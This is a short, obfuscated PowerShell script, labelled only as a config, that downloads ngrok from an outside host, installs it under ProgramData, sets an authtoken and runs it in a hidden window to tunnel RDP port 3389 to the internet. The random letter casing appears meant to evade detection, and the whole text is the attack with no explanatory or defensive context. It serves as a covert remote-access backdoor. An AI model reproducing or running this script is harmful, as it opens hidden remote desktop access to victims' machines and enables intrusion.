# cOnFiG 3083 V3
InvokE-WebrEQueSt 'https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-windows-amd64.zip' -OuTfIlE $eNv:tEmP\N.zip
eXpAnD-ArChIvE $Env:TeMp\N.Zip -DESTiNATIoNpATh c:\PrOgRAmDaTA\NG
C:\programdata\NG\NGrOK.eXe AuThToKeN 2aBcDeFgHiJkLmNoPqRsTuVwXyZ_0987654321
StarT-PrOcESs -wiNDoWstYlE HiDdEn C:\PROgRamdaTA\nG\NGrok.Exe -aRGumeNTlisT 'tcp 3389'
